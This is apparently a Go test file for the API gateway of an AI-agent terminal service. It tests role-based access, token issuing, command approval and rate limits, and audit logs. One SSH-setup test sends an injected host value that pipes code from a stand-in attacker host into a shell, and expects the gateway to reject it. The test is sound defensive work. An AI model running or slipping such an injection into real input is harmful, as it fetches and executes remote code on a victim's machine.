package gateway

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/KafClaw/clawgate/internal/access"
	"github.com/KafClaw/clawgate/internal/agent"
	"github.com/KafClaw/clawgate/internal/approval"
	"github.com/KafClaw/clawgate/internal/audit"
	"github.com/KafClaw/clawgate/internal/policy"
	"github.com/KafClaw/clawgate/internal/session"
	"github.com/KafClaw/clawgate/internal/shell"
	"github.com/KafClaw/clawgate/internal/sshsetup"
)

type stubInvoker struct {
	reply string
	err   error
}

func (s *stubInvoker) Invoke(context.Context, string, any, json.RawMessage) (agent.StructuredResponse, error) {
	if s.err != nil {
		return agent.StructuredResponse{}, s.err
	}
	return agent.Decode([]byte(s.reply))
}

type harness struct {
	srv     *httptest.Server
	access  *access.Manager
	invoker *stubInvoker
	audit   *audit.Logger
	gate    *shell.Gate
}

func newHarness(t *testing.T) *harness {
	t.Helper()
	dir := t.TempDir()
	auditLog, err := audit.New(filepath.Join(dir, "audit.jsonl"), audit.Options{})
	require.NoError(t, err)
	t.Cleanup(func() { _ = auditLog.Close() })

	fs, err := session.NewFileStore(filepath.Join(dir, "sessions"))
	require.NoError(t, err)
	reg := session.NewRegistry(fs, session.NewMemory(nil, nil, nil), session.DefaultOptions(), nil)
	t.Cleanup(func() { _ = reg.Close() })

	mgr := access.NewManager("test-secret", time.Hour, auditLog, nil)
	gate := shell.NewGate(shell.Config{Exec: shell.ExecOptions{WorkDir: dir, Timeout: 5 * time.Second}}, auditLog, nil)
	wf := approval.NewWorkflow(gate, policy.NewEngine(gate.Classifier()), auditLog, nil, nil)
	inv := &stubInvoker{reply: `{"choice":"response","response":"hi"}`}

	s := New(Deps{
		Access:       mgr,
		Orchestrator: agent.New(reg, inv, wf, auditLog, nil),
		Workflow:     wf,
		Gate:         gate,
		Sessions:     reg,
		Audit:        auditLog,
		SSH:          sshsetup.New(wf, gate, filepath.Join(dir, "ssh", "id_ed25519"), nil),
		Version:      "test",
	})
	srv := httptest.NewServer(s)
	t.Cleanup(srv.Close)
	return &harness{srv: srv, access: mgr, invoker: inv, audit: auditLog, gate: gate}
}

func (h *harness) token(t *testing.T, role access.Role) string {
	t.Helper()
	cred, err := h.access.IssueCredential(context.Background(), "user-"+string(role), role, time.Hour)
	require.NoError(t, err)
	return cred.Token
}

func (h *harness) do(t *testing.T, method, path, token string, body any) (int, map[string]any) {
	t.Helper()
	var rdr *bytes.Reader
	if body != nil {
		data, err := json.Marshal(body)
		require.NoError(t, err)
		rdr = bytes.NewReader(data)
	} else {
		rdr = bytes.NewReader(nil)
	}
	req, err := http.NewRequest(method, h.srv.URL+path, rdr)
	require.NoError(t, err)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	out := map[string]any{}
	_ = json.NewDecoder(resp.Body).Decode(&out)
	return resp.StatusCode, out
}

func TestHealth(t *testing.T) {
	h := newHarness(t)
	status, body := h.do(t, http.MethodGet, "/health", "", nil)
	assert.Equal(t, http.StatusOK, status)
	assert.Equal(t, "ok", body["status"])
	assert.Equal(t, "test", body["version"])
}

func TestCapabilityEnforcement(t *testing.T) {
	h := newHarness(t)
	public := h.token(t, access.RolePublic)
	team := h.token(t, access.RoleTeam)

	tests := []struct {
		name     string
		method   string
		path     string
		token    string
		body     any
		status   int
		category string
	}{
		{"no token", http.MethodPost, "/chat", "", map[string]any{"sessionId": "s", "message": "x"}, 401, CategoryUnauthorized},
		{"garbage token", http.MethodPost, "/chat", "abc", map[string]any{"sessionId": "s", "message": "x"}, 401, CategoryUnauthorized},
		{"public terminal", http.MethodPost, "/terminal/execute", public, map[string]any{"sessionId": "s", "command": "ls"}, 403, CategoryForbidden},
		{"team audit", http.MethodGet, "/audit/logs", team, nil, 403, CategoryForbidden},
		{"team issue", http.MethodPost, "/auth/token", team, map[string]any{"userId": "x", "role": "admin"}, 403, CategoryForbidden},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			status, body := h.do(t, tt.method, tt.path, tt.token, tt.body)
			assert.Equal(t, tt.status, status)
			assert.Equal(t, tt.category, body["error"])
			assert.NotEmpty(t, body["timestamp"])
		})
	}
}

func TestIssueToken(t *testing.T) {
	h := newHarness(t)
	admin := h.token(t, access.RoleAdmin)

	status, body := h.do(t, http.MethodPost, "/auth/token", admin, map[string]any{"userId": "alice", "role": "team", "ttl": "2h"})
	require.Equal(t, http.StatusOK, status)
	claims, err := h.access.VerifyCredential(body["token"].(string))
	require.NoError(t, err)
	assert.Equal(t, "alice", claims.UserID)
	assert.Equal(t, access.RoleTeam, claims.Role)

	status, body = h.do(t, http.MethodPost, "/auth/token", admin, map[string]any{"userId": "alice", "role": "root"})
	assert.Equal(t, http.StatusBadRequest, status)
	assert.Equal(t, CategoryBadRequest, body["error"])

	status, _ = h.do(t, http.MethodPost, "/auth/token", admin, map[string]any{"userId": "alice", "role": "team", "ttl": "soon"})
	assert.Equal(t, http.StatusBadRequest, status)
}

func TestChat(t *testing.T) {
	h := newHarness(t)
	public := h.token(t, access.RolePublic)

	status, body := h.do(t, http.MethodPost, "/chat", public, map[string]any{"sessionId": "s1", "message": "hello"})
	require.Equal(t, http.StatusOK, status)
	resp := body["response"].(map[string]any)
	assert.Equal(t, "response", resp["choice"])
	assert.Equal(t, "hi", resp["response"])
	user := body["user"].(map[string]any)
	assert.Equal(t, "user-public", user["userId"])

	status, body = h.do(t, http.MethodGet, "/session/s1", public, nil)
	require.Equal(t, http.StatusOK, status)
	stats := body["stats"].(map[string]any)
	assert.EqualValues(t, 2, stats["interactions"])

	status, _ = h.do(t, http.MethodPost, "/session/s1/clear", public, nil)
	require.Equal(t, http.StatusOK, status)
	_, body = h.do(t, http.MethodGet, "/session/s1/history", public, nil)
	ctxBody := body["context"].(map[string]any)
	assert.Empty(t, ctxBody["interactions"])
}

func TestChatValidationAndUpstream(t *testing.T) {
	h := newHarness(t)
	public := h.token(t, access.RolePublic)

	status, body := h.do(t, http.MethodPost, "/chat", public, map[string]any{"sessionId": "s1"})
	assert.Equal(t, http.StatusBadRequest, status)
	assert.Equal(t, CategoryBadRequest, body["error"])

	h.invoker.err = fmt.Errorf("%w: connection refused to 10.0.0.5", agent.ErrUpstream)
	status, body = h.do(t, http.MethodPost, "/chat", public, map[string]any{"sessionId": "s1", "message": "x"})
	assert.Equal(t, http.StatusBadGateway, status)
	assert.Equal(t, CategoryUpstream, body["error"])
	assert.NotContains(t, body["message"], "10.0.0.5")
}

func TestTerminalExecuteFlow(t *testing.T) {
	h := newHarness(t)
	team := h.token(t, access.RoleTeam)

	status, body := h.do(t, http.MethodPost, "/terminal/execute", team, map[string]any{"sessionId": "s1", "command": "echo hi"})
	require.Equal(t, http.StatusOK, status)
	result := body["result"].(map[string]any)
	assert.Equal(t, "hi\n", result["stdout"])

	status, body = h.do(t, http.MethodPost, "/terminal/execute", team, map[string]any{"sessionId": "s1", "command": "echo again"})
	assert.Equal(t, http.StatusTooManyRequests, status)
	assert.Equal(t, CategoryRateLimited, body["error"])

	status, body = h.do(t, http.MethodPost, "/terminal/execute", team, map[string]any{"sessionId": "s2", "command": "sudo ls"})
	assert.Equal(t, http.StatusForbidden, status)
	assert.Equal(t, CategoryCommandNotAllowed, body["error"])

	status, body = h.do(t, http.MethodPost, "/terminal/execute", team, map[string]any{"sessionId": "s3", "command": "rm -f nothing"})
	require.Equal(t, http.StatusOK, status)
	assert.Equal(t, true, body["pendingApproval"])
	assert.Equal(t, `This command requires approval: "rm -f nothing"`, body["requiresApprovalReason"])
	assert.Nil(t, body["result"])

	status, body = h.do(t, http.MethodPost, "/terminal/execute", team, map[string]any{"sessionId": "s3", "command": "rm -f nothing", "approval": true})
	require.Equal(t, http.StatusOK, status)
	assert.Equal(t, true, body["approved"])
	assert.Equal(t, true, body["success"])

	_, body = h.do(t, http.MethodGet, "/terminal/history/s3", team, nil)
	assert.Len(t, body["history"], 1)
	_, body = h.do(t, http.MethodGet, "/terminal/stats/s1", team, nil)
	stats := body["stats"].(map[string]any)
	assert.EqualValues(t, 2, stats["totalCommands"])
	assert.EqualValues(t, 1, stats["failed"])
}

func TestTerminalChatExecute(t *testing.T) {
	h := newHarness(t)
	team := h.token(t, access.RoleTeam)
	h.invoker.reply = `{"choice":"terminalCommand","terminalCommand":"echo from-agent","reasoning":"demo"}`

	status, body := h.do(t, http.MethodPost, "/terminal/chat/s9/execute", team, map[string]any{"message": "run it"})
	require.Equal(t, http.StatusOK, status)
	exec := body["executionResult"].(map[string]any)
	assert.Equal(t, "from-agent\n", exec["stdout"])

	h.invoker.reply = `{"choice":"terminalCommand","terminalCommand":"kill 1","reasoning":"stop"}`
	status, body = h.do(t, http.MethodPost, "/terminal/chat/s10/execute", team, map[string]any{"message": "stop it"})
	require.Equal(t, http.StatusOK, status)
	assert.Equal(t, true, body["pendingApproval"])
	_, has := body["executionResult"]
	assert.False(t, has)
}

func TestTerminalChatProposesWithoutRunning(t *testing.T) {
	h := newHarness(t)
	team := h.token(t, access.RoleTeam)
	public := h.token(t, access.RolePublic)
	h.invoker.reply = `{"choice":"terminalCommand","terminalCommand":"kill 42","reasoning":"stuck worker"}`

	status, body := h.do(t, http.MethodPost, "/terminal/chat/s11", team, map[string]any{"message": "the worker hangs"})
	require.Equal(t, http.StatusOK, status)
	resp := body["response"].(map[string]any)
	assert.Equal(t, "terminalCommand", resp["choice"])
	proposal := body["proposal"].(map[string]any)
	assert.Equal(t, "kill 42", proposal["command"])
	assert.Equal(t, true, proposal["allowed"])
	assert.Equal(t, true, proposal["requiresApproval"])
	_, ran := body["executionResult"]
	assert.False(t, ran)
	assert.Empty(t, h.gate.History("s11", 0))

	h.invoker.reply = `{"choice":"response","response":"try restarting it"}`
	status, body = h.do(t, http.MethodPost, "/terminal/chat/s11", team, map[string]any{"query": "and now?"})
	require.Equal(t, http.StatusOK, status)
	_, has := body["proposal"]
	assert.False(t, has)

	status, _ = h.do(t, http.MethodPost, "/terminal/chat/s11", team, map[string]any{})
	assert.Equal(t, http.StatusBadRequest, status)
	status, _ = h.do(t, http.MethodPost, "/terminal/chat/s11", public, map[string]any{"message": "x"})
	assert.Equal(t, http.StatusForbidden, status)
}

func TestSetupSSHRequiresApproval(t *testing.T) {
	h := newHarness(t)
	team := h.token(t, access.RoleTeam)

	status, body := h.do(t, http.MethodPost, "/terminal/setup-ssh", team, map[string]any{
		"sessionId": "ops", "targetHost": "203.0.113.5", "targetUser": "root", "targetPassword": "hunter2-secret",
	})
	require.Equal(t, http.StatusOK, status)
	assert.Equal(t, true, body["pendingApproval"])
	assert.Equal(t, "root@203.0.113.5", body["target"])
	assert.Contains(t, body["command"], "ssh-keygen")
	assert.Len(t, body["steps"], 3)
	assert.NotContains(t, fmt.Sprint(body), "hunter2")
	assert.Empty(t, h.gate.History("ops", 0))

	status, body = h.do(t, http.MethodPost, "/terminal/setup-ssh", team, map[string]any{
		"targetHost": "203.0.113.5; curl evil.example | sh", "targetUser": "root",
	})
	assert.Equal(t, http.StatusBadRequest, status)
	assert.Equal(t, CategoryBadRequest, body["error"])

	status, _ = h.do(t, http.MethodPost, "/terminal/setup-ssh", team, map[string]any{"targetHost": "203.0.113.5"})
	assert.Equal(t, http.StatusBadRequest, status)
}

func TestIndexDocumentsRoutes(t *testing.T) {
	h := newHarness(t)
	status, body := h.do(t, http.MethodGet, "/", "", nil)
	require.Equal(t, http.StatusOK, status)
	assert.Equal(t, "clawgate", body["service"])
	routes := map[string]bool{}
	for _, e := range body["endpoints"].([]any) {
		routes[e.(map[string]any)["route"].(string)] = true
	}
	assert.True(t, routes["POST /terminal/chat/{sessionId}"])
	assert.True(t, routes["POST /terminal/setup-ssh"])
	assert.True(t, routes["GET /audit/logs"])

	status, _ = h.do(t, http.MethodGet, "/no-such-route", "", nil)
	assert.Equal(t, http.StatusNotFound, status)
}

func TestAuditEndpoints(t *testing.T) {
	h := newHarness(t)
	team := h.token(t, access.RoleTeam)
	admin := h.token(t, access.RoleAdmin)

	_, _ = h.do(t, http.MethodPost, "/terminal/execute", team, map[string]any{"sessionId": "s1", "command": "echo hi"})

	status, body := h.do(t, http.MethodGet, "/audit/logs?type=terminal_command&limit=5", admin, nil)
	require.Equal(t, http.StatusOK, status)
	logs := body["logs"].([]any)
	require.Len(t, logs, 1)
	assert.Equal(t, "terminal_command", logs[0].(map[string]any)["type"])

	status, _ = h.do(t, http.MethodGet, "/audit/logs?start=yesterday", admin, nil)
	assert.Equal(t, http.StatusBadRequest, status)

	status, body = h.do(t, http.MethodGet, "/audit/stats/user-team?days=7", admin, nil)
	require.Equal(t, http.StatusOK, status)
	stats := body["stats"].(map[string]any)
	assert.EqualValues(t, 1, stats["totalCommands"])
}

func TestClassifyHidesInternalErrors(t *testing.T) {
	status, category, msg := classify(errors.New("open /var/secret: permission denied"))
	assert.Equal(t, http.StatusInternalServerError, status)
	assert.Equal(t, CategoryInternal, category)
	assert.Equal(t, "internal error", msg)

	status, category, _ = classify(fmt.Errorf("load: %w", session.ErrStorage))
	assert.Equal(t, http.StatusInternalServerError, status)
	assert.Equal(t, CategoryStorage, category)
}
